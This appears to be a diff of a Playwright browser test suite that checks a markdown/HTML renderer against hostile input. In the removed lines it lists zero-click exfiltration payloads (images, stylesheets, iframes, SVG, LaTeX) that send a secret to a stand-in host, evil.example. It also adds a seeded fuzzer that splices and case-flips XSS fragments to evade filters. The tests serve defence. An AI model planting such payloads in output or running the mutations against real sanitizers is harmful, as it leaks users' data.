@@ -9,33 +9,15 @@ import { type Browser, chromium, type Page } from 'playwright-core';
 import { findBrowser } from '../../scripts/find-browser.mjs';
 import { chooseCount } from '../../scripts/tier.mjs';
 import { readCorpus } from '../support/corpus.js';
+import { createSeededRandom } from '../support/seeded-random.js';
+import { leaks } from '../sinks/leaks.js';
+import { countFigure } from '../support/report-figure.js';
 import { xssCases } from './xss-cases.js';
 
 interface Case {
   readonly input: string;
   readonly kind?: string;
 }
-
-const HOSTS = ['https://evil.example', '//evil.example:444', 'http://evil.example'];
-/** Ways to call home that need no click, each with a host of `HOSTS`. */
-const leaks = HOSTS.flatMap((host) => [
-  `![a](${host}/?q=secret)`,
-  `![a][b]\n\n[b]: ${host}/?q=secret`,
-  `[![a](${host}/a.png)](${host}/b)`,
-  `| a |\n|---|\n| ![b](${host}/c.png) |`,
-  `<img src="${host}/a.png" srcset="${host}/b.png 2x">`,
-  `<link rel="preconnect" href="${host}"><link rel="dns-prefetch" href="${host}">`,
-  `<link rel="stylesheet" href="${host}/a.css"><style>@import "${host}/b.css"</style>`,
-  `<table background="${host}/a.png"><td style="background:url(${host}/b.png)">a</table>`,
-  `<video poster="${host}/a.png" src="${host}/b.mp4"></video><audio src="${host}/c.mp3"></audio>`,
-  `<iframe src="${host}/a"></iframe><object data="${host}/b"></object><embed src="${host}/c">`,
-  `<svg><image href="${host}/a.png"/><use href="${host}/b.svg#c"/></svg>`,
-  `<details open><summary>a ![b](${host}/c.png)</summary>\n\n![d](${host}/e.png)\n\n</details>`,
-  `a[^b]\n\n[^b]: ![c](${host}/d.png)`,
-  `> [!NOTE]\n> ![a](${host}/b.png)`,
-  `$$\\includegraphics{${host}/a.png}$$`,
-  `[a](${host}/b) <${host}/c> ${host}/d`,
-]);
 
 /** Of what takes long, one text in so many; the exhaustive tier has them all, and takes a quarter of an hour. */
 const every = (count: number) => (_: string, index: number) =>
@@ -138,6 +120,19 @@ describe('hostile texts in a real page', () => {
     await expectNothing(page, events);
   });
 
+  it('run nothing and leave nothing foreign, put together anew', async () => {
+    const { page, events } = await open();
+    const count = chooseCount({ quick: 300, full: 2_000, exhaustive: 10_000 }, 'MUTANTS');
+    const seed = Number(process.env['SEED'] ?? 20_261_101);
+    const texts = mutate(attacks, count, seed);
+    for (const batch of batches(texts, 500)) {
+      const findings = await page.evaluate((some) => hostile.showWhole(some), batch);
+      assert.deepEqual(findings, [], `SEED=${seed} makes them again`);
+    }
+    await expectNothing(page, events);
+    countFigure('S1', 'texts made of pieces of others', texts.length);
+  });
+
   it('run nothing, leave nothing foreign and break no rule where the page enforces Trusted Types', async () => {
     const { page, events } = await open('/strict');
     await showWhole(page, attacks.filter(every(8)));
@@ -164,4 +159,41 @@ describe('hostile texts in a real page', () => {
 function batches<Item>(items: readonly Item[], size: number): Item[][] {
   const starts = items.flatMap((_, index) => (index % size === 0 ? [index] : []));
   return starts.map((start) => items.slice(start, start + size));
+}
+
+/** What stands between two pieces: nothing, what ends something, and what is not seen. */
+const SEAMS = [
+  '',
+  '\n',
+  '\n\n',
+  ' ',
+  '`',
+  '"',
+  "'",
+  '>',
+  '](',
+  '<!--',
+  '-->',
+  '\u0000',
+  '\u200b',
+  '\t',
+  '&#x0a;',
+  '| ',
+  '$',
+];
+
+/** Texts of two or three pieces each, as attackers make new ones of old ones. */
+function mutate(texts: readonly string[], count: number, seed: number): string[] {
+  const random = createSeededRandom(seed);
+  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item;
+  const cut = (text: string): string => {
+    const start = Math.floor(random() * text.length);
+    return random() < 0.5 ? text.slice(start) : text.slice(0, start + 1);
+  };
+  const change = (text: string): string =>
+    random() < 0.2 ? text.replace(/script|onerror|href|src/gi, (word) => word.toUpperCase()) : text;
+  return Array.from({ length: count }, () => {
+    const pieces = Array.from({ length: 2 + Math.floor(random() * 2) }, () => change(cut(pick(texts).slice(0, 2_000))));
+    return pieces.reduce((whole, piece) => whole + pick(SEAMS) + piece);
+  });
 }
